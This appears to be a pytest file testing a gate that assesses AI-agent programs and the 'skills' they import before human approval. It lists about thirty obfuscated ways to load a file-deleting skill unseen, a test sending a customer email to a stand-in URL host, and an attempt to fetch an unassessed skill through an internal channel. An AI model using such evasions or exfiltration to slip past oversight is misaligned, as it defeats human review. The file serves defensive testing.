"""A program that imports a kept skill is assessed together with the skill's code, and runs with exactly that code."""

from __future__ import annotations

import pytest

from tests.runs.steps import waiting
from workbench.analysis.used_skills import check_unchanged, includes_skills, read_all
from workbench.errors import WorkbenchError
from workbench.records import Decision, Gate, Risk, RunState

SENDER = """\
from servers.demo import send_email


async def greet(to):
    return await send_email(to=to, subject="Hello", body="Hi")
"""
USES = "from skills.greet import greet\nresult = await greet('a@example.org')\n"
NESTED = "from skills.greet import greet\n\n\nasync def twice(to):\n    await greet(to)\n    await greet(to)\n"


def assess_all(code, tools, skills):
    return read_all(code, tools, skills).verdict


def keep(core, name, code):
    draft = core.services.library.draft(name, "A skill.", code, "", "you")
    return core.services.library.keep(name, draft.sha, "you")


async def test_what_a_skill_does_is_what_the_program_does(demo):
    kept = keep(demo, "greet", SENDER)
    verdict = await demo.run_manager.assess(USES)
    assert verdict.gate is Gate.ASK
    assert verdict.risk is not Risk.LOW
    assert "The skill greet:" in verdict.sentence
    assert ("demo", "send_email") in {(use.server, use.tool) for use in verdict.tools}
    assert all(effect.line == 1 for effect in verdict.effects if "in the skill greet" in effect.text)
    assert verdict.definitions["skills.greet"] == kept.sha
    assert not [doubt for doubt in verdict.not_assessed if "The text of the skill" in doubt]


async def test_an_approved_program_may_do_what_its_skill_does(demo):
    keep(demo, "greet", SENDER)
    run = await waiting(demo, demo.run_manager.submit(USES, demo.services.sessions.open("agent")))
    demo.run_manager.decide(Decision(run.id, run.proposal.sha, allow=True, by="you", fingerprint=run.fingerprint))
    done = await demo.run_manager.wait_until_finished(run.id)
    assert done.state is RunState.DONE, done.fault


async def test_a_skill_kept_anew_while_its_program_waits_is_noticed(demo):
    keep(demo, "greet", SENDER)
    run = await waiting(demo, demo.run_manager.submit(USES, demo.services.sessions.open("agent")))
    keep(demo, "greet", SENDER.replace("Hi", "Something else"))
    demo.run_manager.decide(Decision(run.id, run.proposal.sha, allow=True, by="you", fingerprint=run.fingerprint))
    done = await demo.run_manager.wait_until_finished(run.id)
    assert done.state is RunState.FAILED
    assert "changed after this program was assessed" in done.fault.message
    assert done.calls == ()


async def test_skills_of_skills_count_too_and_a_circle_ends_before_a_person(demo):
    skills = (keep(demo, "greet", SENDER), keep(demo, "twice", NESTED))
    program = "from skills.twice import twice\nawait twice('a@example.org')"
    verdict = assess_all(program, demo.catalog.tools(), skills)
    assert {"skills.greet", "skills.twice"} <= set(verdict.definitions)
    assert verdict.gate is Gate.ASK
    circle = keep(demo, "loop", "from skills.loop import loop\n\n\nasync def loop():\n    return 1\n")
    assert assess_all("from skills.loop import loop", demo.catalog.tools(), (circle,)).gate is Gate.ASK


async def test_a_harmless_skill_keeps_a_program_harmless(core):
    skill = keep(core, "double", "def double(n):\n    return 2 * n\n")
    for program in ("from skills.double import double", "from skills import double", "load_skill('double')"):
        verdict = assess_all(program, (), (skill,))
        assert "skills.double" in verdict.definitions, program
    assert (await core.run_manager.assess("from skills.double import double\nresult = double(2)")).gate is Gate.AUTO


async def test_a_skill_that_is_gone_is_a_changed_skill(core):
    skill = keep(core, "double", "def double(n):\n    return 2 * n\n")
    verdict = assess_all("from skills.double import double", (), (skill,))
    check_unchanged(verdict, (skill,))
    with pytest.raises(WorkbenchError):
        check_unchanged(verdict, ())


async def test_only_a_program_that_was_judged_with_skills_is_held_against_them(demo):
    keep(demo, "greet", SENDER)
    skills = demo.services.library.usable()
    assert includes_skills(assess_all(USES, demo.catalog.tools(), skills))
    assert not includes_skills(assess_all("result = 1", demo.catalog.tools(), skills))
    assert not includes_skills(None)


TIDY = """\
import os
from pathlib import Path


def tidy():
    for file in Path("workspace").glob("*.csv"):
        os.unlink(file)
    return "done"
"""
# All forms in which a program can use the skill `tidy`.
SPELLINGS = (
    "result = load_skill('tidy').tidy()",
    "result = load_skill(name='tidy').tidy()",
    "result = load_skill(name=('ti' 'dy')).tidy()",
    "name = 'ti' + 'dy'\nresult = load_skill(name).tidy()",
    "name = 'tiny'\nresult = load_skill(name.replace('n', 'd')).tidy()",
    "result = load_skill(*['tidy']).tidy()",
    "result = load_skill(*{'tidy': 'double'}).tidy()",
    "result = load_skill(**{'name': 'tidy'}).tidy()",
    "load = load_skill\nresult = load('tidy').tidy()",
    "result = [load_skill][0]('tidy').tidy()",
    "result = next(map(load_skill, ['tidy'])).tidy()",
    "for name in {'tidy': 'double'}:\n    result = load_skill(name).tidy()",
    "name = 'double'\ndef other():\n    global name\n    name = 'tidy'\nother()\nresult = load_skill(name).tidy()",
    "def load(name):\n    return load_skill(name)\nresult = load('tidy').tidy()",
    "result = (lambda load: load('tidy'))(load_skill).tidy()",
    "result = load_skill.__call__('tidy').tidy()",
    "result = globals()['load_skill']('tidy').tidy()",
    "result = [f for n, f in globals().items() if n.startswith('load_s')][0]('tidy').tidy()",
    "from __main__ import load_skill as load\nresult = load('tidy').tidy()",
    "import sys\nresult = sys.modules['__main__'].load_skill('tidy').tidy()",
    "from functools import partial\nresult = partial(load_skill, 'tidy')().tidy()",
    "@load_skill\n@lambda cls: cls.__name__\nclass tidy: pass\nresult = tidy.tidy()",
    "from skills.tidy import tidy\nresult = tidy()",
    "from ｓｋｉｌｌｓ.tidy import tidy\nresult = tidy()",
    "from skills import tidy\nresult = tidy.tidy()",
    "import skills.tidy as other\nresult = other.tidy()",
    "import skills.tidy\nresult = getattr(skills, 'ti' + 'dy').tidy()",
    "import importlib\nresult = importlib.import_module('skills.tidy').tidy()",
    "import importlib\nresult = importlib.import_module('.tidy', package='skills').tidy()",
    "result = __import__('skills', fromlist=['tidy']).tidy.tidy()",
    "names = {}\nexec(load_skill('tidy'), names)\nresult = names['tidy']()",
)


async def test_no_spelling_has_a_skill_run_that_nobody_assessed(core):
    kept = keep(core, "tidy", TIDY)
    precious = core.paths.workspace / "precious.csv"
    agent = core.services.sessions.open("agent")
    for program in SPELLINGS:
        precious.write_text("a,b\n")
        run = await waiting(core, core.run_manager.submit(program, agent))
        assert run.verdict.risk in (Risk.HIGH, Risk.CRITICAL), program
        assert run.verdict.definitions["skills.tidy"] == kept.sha, program
        assert precious.exists(), program
        core.run_manager.decide(Decision(run.id, run.proposal.sha, allow=True, by="you", fingerprint=run.fingerprint))
        done = await core.run_manager.wait_until_finished(run.id)
        assert done.state is RunState.DONE, (program, done.fault)
        assert not precious.exists(), program


@pytest.mark.parametrize(
    "program",
    [
        "result = load_skill('double').double(2)",
        "name = 'double'\nresult = load_skill(name=name).double(2)",
        "result = callable(load_skill) and load_skill is not None",
        "from client import load_skill as load\nresult = load('double').double(2)",
        "from skills.double import *\nresult = double(2)",
    ],
)
async def test_a_harmless_skill_asks_nobody_however_it_is_named(core, program):
    keep(core, "double", "def double(n):\n    return 2 * n\n")
    assert (await core.run_manager.assess(program)).gate is Gate.AUTO


async def test_a_program_with_a_skill_that_is_not_kept_is_returned_to_its_author(core):
    code = "load_skill('tidy').tidy()"
    done = await core.run_manager.wait_until_finished(
        core.run_manager.submit(code, core.services.sessions.open("agent")).id
    )
    assert (done.state, done.started) == (RunState.REFUSED, 0)
    assert "Uses the skill tidy, which is not saved in this project" in done.fault.message
    assert "list_skills" in done.fault.hint


async def test_a_skill_that_is_kept_while_its_program_waits_is_noticed(core):
    code = "import os\nos.remove('workspace/a')\nload_skill('tidy').tidy()"
    run = await waiting(core, core.run_manager.submit(code, core.services.sessions.open("agent")))
    keep(core, "tidy", TIDY)
    core.run_manager.decide(Decision(run.id, run.proposal.sha, allow=True, by="you", fingerprint=run.fingerprint))
    done = await core.run_manager.wait_until_finished(run.id)
    assert done.state is RunState.FAILED
    assert "changed after this program was assessed" in done.fault.message


async def test_skills_nested_too_deeply_to_be_read_are_asked_about(core):
    skills = [keep(core, "deep-7", TIDY.replace("def tidy", "def deep_7"))]
    for number in range(6, 0, -1):
        code = f"from skills.deep_{number + 1} import deep_{number + 1} as next\n\n\ndef deep_{number}():\n    next()\n"
        skills.append(keep(core, f"deep-{number}", code))
    verdict = assess_all("from skills.deep_1 import deep_1\ndeep_1()", (), skills)
    assert (verdict.gate, verdict.risk) == (Gate.ASK, Risk.HIGH)
    assert "too deeply to be analyzed" in verdict.sentence


PAGES = """\
from servers.demo import fetch_page


async def page(url):
    return await fetch_page(url=url)
"""
READS = "from servers.demo import list_customers\nrows = (await list_customers(limit=1))['customers']\n"


async def test_private_data_and_a_skill_that_reaches_outside_ask_together(demo):
    keep(demo, "page", PAGES)
    alone = await demo.run_manager.assess("from skills.page import page\nawait page('https://prices.example/paper')")
    assert (alone.risk, alone.gate, alone.may_carry) == (Risk.LOW, Gate.AUTO, ("demo.fetch_page",))
    code = READS + "import skills.page as p\nawait p.page('https://m.example/' + rows[0]['email'])"
    verdict = await demo.run_manager.assess(code)
    assert (verdict.risk, verdict.gate) == (Risk.HIGH, Gate.ASK)
    (found,) = [finding for finding in verdict.findings if finding.rule == "flow.unclear"]
    words = "Whether data from demo.list_customers goes to demo.fetch_page cannot be determined"
    assert found.message.startswith(words)


async def test_a_skill_that_reads_private_data_and_a_program_that_reaches_outside_ask_together(demo):
    keep(
        demo,
        "rows",
        "from servers.demo import list_customers\n\n\nasync def rows():\n    return await list_customers()\n",
    )
    calls = "r = await rows()\nawait fetch_page(url=str(r))"
    code = f"from skills.rows import rows\nfrom servers.demo import fetch_page\n{calls}"
    verdict = await demo.run_manager.assess(code)
    assert (verdict.risk, verdict.gate) == (Risk.HIGH, Gate.ASK)


async def test_a_program_sees_no_skill_that_was_not_assessed_with_it(core):
    """The sandbox contains only assessed skills, so uses that the analysis misses cannot load one."""
    keep(core, "tidy", TIDY)
    keep(core, "double", "def double(n):\n    return 2 * n\n")
    agent = core.services.sessions.open("agent")
    done = await core.run_manager.wait_until_finished(
        core.run_manager.submit("import os\nresult = os.listdir('skills')", agent).id
    )
    assert (done.state, done.result) == (RunState.DONE, "[]"), done.fault
    asked = "import client\nresult = client.get_client()._line.ask_now('skill', name='tidy')"
    done = await core.run_manager.wait_until_finished(core.run_manager.submit(asked, agent).id)
    assert done.state is RunState.FAILED
    assert "was not assessed with the skill tidy" in done.fault.message
    used = "from skills.double import double\nresult = double(2)"
    done = await core.run_manager.wait_until_finished(core.run_manager.submit(used, agent).id)
    assert (done.state, done.result) == (RunState.DONE, "4"), done.fault
